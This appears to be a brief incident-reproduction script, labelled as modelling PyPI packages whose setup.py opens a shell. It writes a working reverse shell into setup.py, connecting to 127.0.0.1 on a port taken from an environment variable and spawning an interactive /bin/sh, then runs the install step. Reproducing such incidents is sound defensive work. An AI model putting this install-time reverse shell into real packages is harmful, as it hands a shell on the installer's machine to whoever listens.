# incident: PyPI packages whose setup.py opens a shell (several)
# finding: reverse-shell
# needs: python3
cat > setup.py <<'PY'
import os, socket, subprocess
s = socket.socket(); s.connect(("127.0.0.1", int(os.environ["SHELL_PORT"])))
for n in (0, 1, 2): os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-i"])
PY
python3 setup.py install
